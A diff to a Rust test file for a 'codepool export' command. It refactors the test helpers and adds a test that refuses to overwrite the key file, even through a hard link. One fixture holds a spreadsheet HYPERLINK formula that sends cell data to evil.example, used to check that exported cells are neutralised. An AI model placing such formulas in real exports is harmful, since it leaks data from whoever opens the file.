@@ -1,13 +1,14 @@
 //! `codepool export` writes only where it was asked, never over something
 //! that is not a regular file, leaves nothing behind when it fails, and
-//! writes no cell a spreadsheet would run.
+//! writes no cell a spreadsheet would run. The key file is never a target.
 
 use std::os::unix::fs::FileTypeExt;
 
 use codepool_domain::Purchase;
 use codepool_issuance::Resend;
 
-use crate::common::TestEnv;
+use crate::common::*;
+use crate::fixtures::*;
 
 /// Every entry of `dir`, by name.
 fn entries(dir: &std::path::Path) -> Vec<String> {
@@ -23,13 +24,12 @@ async fn export(env: &TestEnv, out: &std::path::Path, more: &[&str]) -> std::pro
     let out = out.to_str().unwrap();
     let mut args = vec!["export", "--pool", "ex", "--out", out];
     args.extend_from_slice(more);
-    env.command(&args).output().await.unwrap()
+    env.run(&args).await
 }
 
 #[tokio::test]
 async fn export_refuses_a_directory_or_a_device_and_leaves_nothing_behind() {
-    let env = TestEnv::new("export_targets").await;
-    env.fill_pool("ex", 5).await;
+    let env = TestEnv::with_pools("export_targets", &[("ex", 5)]).await;
     let dir = tempfile::tempdir().unwrap();
     let adir = dir.path().join("adir");
     std::fs::create_dir(&adir).unwrap();
@@ -52,8 +52,7 @@ async fn export_refuses_a_directory_or_a_device_and_leaves_nothing_behind() {
 
 #[tokio::test]
 async fn export_refuses_an_existing_file_unless_forced() {
-    let env = TestEnv::new("export_force").await;
-    env.fill_pool("ex", 5).await;
+    let env = TestEnv::with_pools("export_force", &[("ex", 5)]).await;
     let dir = tempfile::tempdir().unwrap();
     let target = dir.path().join("codes.csv");
     std::fs::write(&target, "keep me").unwrap();
@@ -75,34 +74,11 @@ async fn export_refuses_an_existing_file_unless_forced() {
 
 #[tokio::test]
 async fn export_neuters_cells_a_spreadsheet_would_run() {
-    let env = TestEnv::new("export_formulas").await;
-    env.fill_pool("ex", 5).await;
+    let env = TestEnv::with_pools("export_formulas", &[("ex", 5)]).await;
     let formula_uid = r#"=HYPERLINK("http://evil.example/?x="&B2,"Click")"#;
     let orders = [
-        Purchase {
-            order_id: "@SUM(A1:A9)".into(),
-            uid: formula_uid.into(),
-            phone: "+8613800000000".into(),
-            pool: "ex".into(),
-            purchased_at: None,
-            quantity: 1,
-            owner: None,
-            shop: None,
-            hold_id: None,
-            items: Vec::new(),
-        },
-        Purchase {
-            order_id: "-2+3".into(),
-            uid: "+1".into(),
-            phone: "+8613800000000".into(),
-            pool: "ex".into(),
-            purchased_at: None,
-            quantity: 1,
-            owner: None,
-            shop: None,
-            hold_id: None,
-            items: Vec::new(),
-        },
+        purchase_by("@SUM(A1:A9)", formula_uid, "ex"),
+        purchase_by("-2+3", "+1", "ex"),
     ];
     let refs: Vec<&Purchase> = orders.iter().collect();
     for o in env
@@ -134,5 +110,44 @@ async fn export_neuters_cells_a_spreadsheet_would_run() {
             ("'@SUM(A1:A9)".to_owned(), format!("'{formula_uid}")),
         ]
     );
+    env.cleanup().await;
+}
+
+#[tokio::test]
+async fn the_key_file_is_never_an_export_target_even_with_force() {
+    let env = TestEnv::with_pools("export_export_key", &[("ek", 3)]).await;
+    let before = std::fs::read(&env.key_file).unwrap();
+    let key = env.key_file.to_str().unwrap();
+    let (code, _, err) = codepool(
+        &env,
+        &[
+            "export", "--pool", "ek", "--status", "unissued", "--force", "--out", key,
+        ],
+    )
+    .await;
+    assert_eq!(code, 1, "{err}");
+    assert!(err.contains("key file"), "{err}");
+    assert_eq!(
+        std::fs::read(&env.key_file).unwrap(),
+        before,
+        "the key file is unchanged"
+    );
+    // A hard link to it is the same file.
+    let link = env.key_file.with_file_name("other-name.csv");
+    std::fs::hard_link(&env.key_file, &link).unwrap();
+    let (code, _, err) = codepool(
+        &env,
+        &[
+            "export",
+            "--pool",
+            "ek",
+            "--force",
+            "--out",
+            link.to_str().unwrap(),
+        ],
+    )
+    .await;
+    assert_eq!(code, 1, "{err}");
+    assert_eq!(std::fs::read(&env.key_file).unwrap(), before);
     env.cleanup().await;
 }
